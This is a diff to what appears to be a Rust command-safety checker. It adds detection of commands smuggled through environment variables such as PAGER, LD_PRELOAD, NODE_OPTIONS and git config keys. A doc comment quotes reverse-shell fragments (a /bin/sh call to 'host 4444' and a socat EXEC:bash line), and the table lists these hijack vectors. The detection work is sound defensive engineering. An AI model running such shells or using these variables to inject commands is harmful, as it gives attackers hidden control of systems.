@@ -5,6 +5,7 @@
 //! The walker turns each into a layer of its own (a command, or code to parse) and judges what
 //! is inside; the checkers then see every layer.
 
+mod environment;
 pub mod finders;
 pub mod git;
 mod languages;
@@ -71,13 +72,16 @@ pub enum Execution {
     /// /bin/sh host 4444`, `socat TCP:h:p EXEC:bash`): whoever is at the other end runs
     /// commands unseen.
     Network { how: String },
+    /// Something it runs that cannot be read before it runs (a library loaded into it).
+    Unverifiable { what: String },
 }
 
 /// What `command` runs besides itself.
 pub fn executions(command: &Command) -> Vec<Execution> {
     let known = known_executions(command);
     let table = table::executions(command, FAMILIES);
-    if known.is_none() && table.is_none() {
+    let environment = environment::executions(command);
+    if known.is_none() && table.is_none() && environment.is_empty() {
         // A program named by a path may be a script.
         return match command.argv.first() {
             Some(program) if program.value().is_some_and(|path| path.contains('/')) => {
@@ -88,6 +92,7 @@ pub fn executions(command: &Command) -> Vec<Execution> {
     }
     let mut found = known.unwrap_or_default();
     found.extend(table.unwrap_or_default());
+    found.extend(environment);
     found
 }
 
@@ -179,7 +184,12 @@ pub fn markdown() -> String {
     row(
         "git",
         "git",
-        "`-c`/`--config-env` keys that hold commands, `!` aliases defined on the command line, `GIT_SSH_COMMAND`, `GIT_PAGER`, `GIT_EDITOR`…",
+        "keys that hold commands (`core.pager`, `core.sshCommand`, `diff.*.textconv`, `!` aliases and credential helpers…) set by `-c`, `git config`, `GIT_CONFIG_COUNT`/`KEY_n`/`VALUE_n` or `GIT_CONFIG_PARAMETERS`; `GIT_SSH_COMMAND`, `GIT_PAGER`, `GIT_EDITOR`…",
+    );
+    row(
+        "environment",
+        "any program given PAGER, MANPAGER, EDITOR, VISUAL, BROWSER, SSH_ASKPASS, LESSOPEN, PROMPT_COMMAND, GIT_* command variables, LD_PRELOAD, NODE_OPTIONS",
+        "a command in the variable's value; a library loaded into the program (asks); modules `NODE_OPTIONS` requires",
     );
     for (programs, what) in wrappers::rows() {
         row("wrappers", &programs, &what);
